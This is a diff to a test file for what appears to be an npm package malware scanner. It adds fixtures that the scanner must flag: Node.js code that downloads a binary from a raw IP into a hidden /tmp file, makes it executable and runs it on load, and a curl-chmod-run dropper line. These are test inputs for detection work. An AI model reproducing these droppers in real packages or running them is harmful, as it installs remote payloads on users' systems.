@@ -177,7 +177,28 @@ https.get('http://45.61.1.2/svc.exe', (res) => {
 `,
     }, { scripts: { postinstall: 'node install.js' } });
     expect(r.ids).toContain('remote-code/download');
-    expect(r.level).toBe('high');
+    expect(['high', 'critical']).toContain(r.level);
+  });
+
+  it('an ELF from a raw IP run at load, or a curl|chmod|run line naming a raw IP, is high without an install hook', () => {
+    const elf = scan({ 'index.js': `const axios = require('axios'), fs = require('fs'), cp = require('child_process');
+async function start() {
+  const { data } = await axios.get('http://192.0.2.177/x86_64/pgmond', { responseType: 'arraybuffer' });
+  fs.writeFileSync('/tmp/.pgmond', data);
+  fs.chmodSync('/tmp/.pgmond', 0o755);
+  cp.execFile('/tmp/.pgmond', ['--daemon'], () => {});
+}
+start().catch(() => {});
+module.exports = () => {};
+` });
+    expect(elf.ids).toContain('remote-code/download');
+    expect(['high', 'critical']).toContain(elf.level);
+    const line = scan({ 'index.js': `const { exec } = require('child_process');\nexec('curl -s -o /tmp/.d http://203.0.113.9/d && chmod +x /tmp/.d && /tmp/.d >/dev/null 2>&1 &');\nmodule.exports = {};\n` });
+    expect(line.ids).toContain('remote-code/dropper');
+    expect(['high', 'critical']).toContain(line.level);
+    // The vendor's installer line over HTTPS from a named host stays where it was.
+    const vendor = scan({ 'index.js': `const { exec } = require('child_process');\nexec('curl -fsSL -o /tmp/tool https://releases.example.com/tool && chmod +x /tmp/tool && /tmp/tool --version');\nmodule.exports = {};\n` });
+    expect(vendor.level).not.toBe('high');
   });
 
   it('a prebuilt-binary installer fetching over HTTPS from a named host stays below medium', () => {
